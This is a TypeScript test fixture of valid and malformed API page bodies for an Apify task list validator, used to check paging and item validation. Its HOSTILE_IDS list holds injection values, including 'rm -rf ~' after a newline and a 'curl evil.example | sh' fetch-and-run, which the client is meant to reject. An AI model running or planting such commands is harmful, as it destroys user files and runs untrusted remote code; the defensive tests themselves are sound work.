// Sample GET /v2/actor-tasks bodies, valid and malformed, shared by the validator tests and
// the test that checks the validator against the official schema (ajv). Each sample is read as
// the answer to `query` (by default: the offset and order the body itself states, limit 1000).
import type { PageQuery } from '../../../src/api/validatePage';

export const VALID_TASK = {
  id: 'zdc3Pyhyz3m8vjDeM',
  userId: 'wRsJZtadYvn4mBZmm',
  actId: 'asADASadYvn4mBZmm',
  actName: 'my-actor',
  name: 'my-task',
  username: 'janedoe',
  actUsername: 'janedoe',
  createdAt: '2018-10-26T07:23:14.855Z',
  modifiedAt: '2018-10-26T13:30:49.578Z',
  stats: { totalRuns: 15 },
};

export function task(overrides: Record<string, unknown> = {}, n = 0): Record<string, unknown> {
  const result: Record<string, unknown> = { ...VALID_TASK, id: `task${String(n).padStart(13, '0')}`, ...overrides };
  for (const [key, value] of Object.entries(overrides)) if (value === undefined) delete result[key];
  return result;
}

export function page(items: unknown[], envelope: Record<string, unknown> = {}): Record<string, unknown> {
  const data: Record<string, unknown> = { total: items.length, offset: 0, limit: 1000, desc: false, count: items.length, items, ...envelope };
  for (const [key, value] of Object.entries(envelope)) if (value === undefined) delete data[key];
  return { data };
}

export interface Sample {
  name: string;
  body: unknown;
  /** The request the body answers; default: see queryFor. */
  query?: PageQuery;
  /** A problem the client must name (regular expression on its messages). */
  expect?: RegExp;
  /** For items the client shows although the schema rejects them: the field and the value shown (undefined: left out). */
  shows?: [string, unknown];
  /** The official schema accepts it too (only for tolerated samples). */
  schemaAccepts?: boolean;
}

/** The sample's request: its own, else the offset and order the body states (when usable), limit 1000. */
export function queryFor(sample: Sample): PageQuery {
  if (sample.query) return sample.query;
  const data = (sample.body as { data?: { offset?: unknown; desc?: unknown } } | null)?.data;
  const offset = Number.isInteger(data?.offset) && (data!.offset as number) >= 0 ? (data!.offset as number) : 0;
  return { offset, limit: 1000, desc: data?.desc === true };
}

/** Valid per the schema and for the client (no rejected items). */
export const VALID_PAGES: Sample[] = [
  { name: 'the spec example', body: page([task({}, 1), task({ name: 'my-task-2' }, 2)]) },
  { name: 'an empty page', body: page([], { total: 0 }) },
  { name: 'a last page past the end', body: page([], { total: 3, offset: 3 }) },
  { name: 'nulls where the schema allows them', body: page([task({ actName: null, username: null, actUsername: null, stats: null })]) },
  { name: 'optional fields absent', body: page([task({ actName: undefined, username: undefined, actUsername: undefined, stats: undefined })]) },
  { name: 'stats without totalRuns', body: page([task({ stats: {} })]) },
  { name: 'unknown extra fields', body: { data: { ...page([task({ extra: { nested: true } })]).data as object, nextCursor: 'x' }, meta: 1 } },
  { name: 'a date-time with an offset', body: page([task({ createdAt: '2018-10-26T09:23:14+02:00' })]) },
  { name: 'desc true', body: page([task()], { desc: true }) },
];

/** Envelope problems the schema rejects and that could make paging skip or repeat: the client fails the whole page. */
export const MALFORMED_ENVELOPES: Sample[] = [
  { name: 'an array body', body: [page([])], expect: /body: expected an object, got array/ },
  { name: 'a null body', body: null, expect: /body: expected an object, got null/ },
  { name: 'no data', body: { items: [] }, expect: /data: missing/ },
  { name: 'data is a string', body: { data: 'tasks' }, expect: /data: expected an object, got string/ },
  { name: 'no items', body: page([], { items: undefined }), expect: /data\.items: missing/ },
  { name: 'items is an object', body: page([], { items: {} }), expect: /data\.items: expected an array, got object/ },
  { name: 'offset is fractional', body: page([], { offset: 1.5, total: 5 }), expect: /data\.offset: the page starts at number 1\.5, not at the requested offset 0/ },
  { name: 'offset missing', body: page([], { offset: undefined }), expect: /data\.offset: missing/ },
  { name: 'desc is "false"', body: page([], { desc: 'false' }), expect: /data\.desc: the page is in an unknown order \(string\), not oldest first as requested/ },
  { name: 'desc missing', body: page([], { desc: undefined }), expect: /data\.desc: missing/ },
  { name: 'count missing', body: page([], { count: undefined }), expect: /data\.count: missing/ },
  { name: 'negative offset', body: page([], { offset: -5 }), expect: /data\.offset: the page starts at number -5, not at the requested offset 0/ },
  { name: 'negative count', body: page([], { count: -1 }), expect: /data\.count \(-1\) does not match the number of items \(0\)/ },
];

/** Envelope problems the schema rejects that cannot make paging skip or repeat: the client shows the page. */
export const TOLERATED_ENVELOPES: Sample[] = [
  { name: 'total is a string', body: page([task()], { total: '1' }), shows: ['total', undefined] },
  { name: 'negative total', body: page([task()], { total: -1 }), shows: ['total', undefined] },
  { name: 'total missing', body: page([task()], { total: undefined }), shows: ['total', undefined] },
  { name: 'limit is null', body: page([task()], { limit: null }), shows: ['limit', undefined] },
  { name: 'limit is zero', body: page([], { limit: 0 }), shows: ['limit', undefined] },
];

/** Consistency problems the schema cannot express: ajv accepts them, the client fails the page. */
export const INCONSISTENT_ENVELOPES: Sample[] = [
  { name: 'count ≠ items.length', body: page([task()], { count: 2, total: 2 }), expect: /data\.count \(2\) does not match the number of items \(1\)/ },
  { name: 'more items than limit', body: page([task({}, 1), task({}, 2)], { limit: 1 }), expect: /data\.items has 2 items, more than data\.limit \(1\)/ },
  { name: 'total < offset + count', body: page([task()], { offset: 10, total: 5 }), expect: /data\.total \(5\) is less than data\.offset \+ data\.count \(11\)/ },
  {
    name: 'an echoed offset of 0 for a request at 100',
    body: page([task()], { offset: 0, total: 500 }),
    query: { offset: 100, limit: 100, desc: false },
    expect: /data\.offset: the page starts at number 0, not at the requested offset 100/,
  },
  {
    name: 'an echoed offset 100 past the request',
    body: page([task()], { offset: 200, total: 500 }),
    query: { offset: 100, limit: 100, desc: false },
    expect: /data\.offset: the page starts at number 200, not at the requested offset 100/,
  },
  {
    name: 'oldest first when newest first was asked for',
    body: page([task()], { desc: false }),
    query: { offset: 0, limit: 100, desc: true },
    expect: /data\.desc: the page is oldest first, not newest first as requested/,
  },
  {
    name: 'more items than the requested limit',
    body: page([task({}, 1), task({}, 2), task({}, 3)]),
    query: { offset: 0, limit: 2, desc: false },
    expect: /data\.items has 3 items, more than the requested limit \(2\)/,
  },
];

/** Item problems about what the extension cannot work without (an ID, a name): the client rejects only that item (index 1). */
export const MALFORMED_ITEMS: Sample[] = [
  { name: 'an item that is null', body: page([task({}, 0), null]), expect: /^items\[1\]: expected an object, got null$/ },
  { name: 'an item that is an array', body: page([task({}, 0), []]), expect: /^items\[1\]: expected an object, got array$/ },
  { name: 'name is a number', body: page([task({}, 0), task({ name: 42 }, 1)]), expect: /^items\[1\]\.name: expected a string, got number 42$/ },
  { name: 'name missing', body: page([task({}, 0), task({ name: undefined }, 1)]), expect: /^items\[1\]\.name: missing$/ },
  { name: 'id missing', body: page([task({}, 0), task({ id: undefined })]), expect: /^items\[1\]\.id: missing$/ },
  { name: 'id is a number', body: page([task({}, 0), task({ id: 12 })]), expect: /^items\[1\]\.id: expected an Apify ID, got number 12$/ },
];

/** IDs the schema accepts (any string) that cannot be an Apify ID: the client rejects the item, without repeating the ID. */
export const HOSTILE_IDS: string[] = [
  'abc\n rm -rf ~ #',
  'abc; curl evil.example | sh',
  'task/loadMore',
  'apifyTasks:loadMore',
  '',
  '..',
  'a'.repeat(101),
  'abc\u2028def',
  'tāsk',
  'abc def',
];

/** Fields the extension does not need, with values the schema rejects: the client shows the item, the value as it came or left out. */
export const TOLERATED_ITEMS: Sample[] = [
  { name: 'userId null', body: page([task({}, 0), task({ userId: null }, 1)]), shows: ['userId', undefined] },
  { name: 'userId a number', body: page([task({}, 0), task({ userId: 7 }, 1)]), shows: ['userId', undefined] },
  { name: 'actId missing', body: page([task({}, 0), task({ actId: undefined }, 1)]), shows: ['actId', undefined] },
  { name: 'actId not an ID', body: page([task({}, 0), task({ actId: 'a b\nc' }, 1)]), shows: ['actId', undefined], schemaAccepts: true },
  { name: 'createdAt missing', body: page([task({}, 0), task({ createdAt: undefined }, 1)]), shows: ['createdAt', undefined] },
  { name: 'createdAt is a number', body: page([task({}, 0), task({ createdAt: 1540538594855 }, 1)]), shows: ['createdAt', undefined] },
  { name: 'modifiedAt is not a date', body: page([task({}, 0), task({ modifiedAt: 'yesterday' }, 1)]), shows: ['modifiedAt', 'yesterday'] },
  { name: 'modifiedAt has no time zone', body: page([task({}, 0), task({ modifiedAt: '2018-10-26T13:30:49' }, 1)]), shows: ['modifiedAt', '2018-10-26T13:30:49'] },
  { name: 'createdAt has month 13', body: page([task({}, 0), task({ createdAt: '2018-13-26T07:23:14Z' }, 1)]), shows: ['createdAt', '2018-13-26T07:23:14Z'] },
  { name: 'actName is a number', body: page([task({}, 0), task({ actName: 7 }, 1)]), shows: ['actName', undefined] },
  { name: 'username is an object', body: page([task({}, 0), task({ username: {} }, 1)]), shows: ['username', undefined] },
  { name: 'actUsername is false', body: page([task({}, 0), task({ actUsername: false }, 1)]), shows: ['actUsername', undefined] },
  { name: 'stats is a number', body: page([task({}, 0), task({ stats: 3 }, 1)]), shows: ['stats', undefined] },
  { name: 'stats is an array', body: page([task({}, 0), task({ stats: [] }, 1)]), shows: ['stats', undefined] },
  { name: 'totalRuns is fractional', body: page([task({}, 0), task({ stats: { totalRuns: 1.5 } }, 1)]), shows: ['stats', {}] },
  { name: 'totalRuns is a string', body: page([task({}, 0), task({ stats: { totalRuns: '3' } }, 1)]), shows: ['stats', {}] },
];
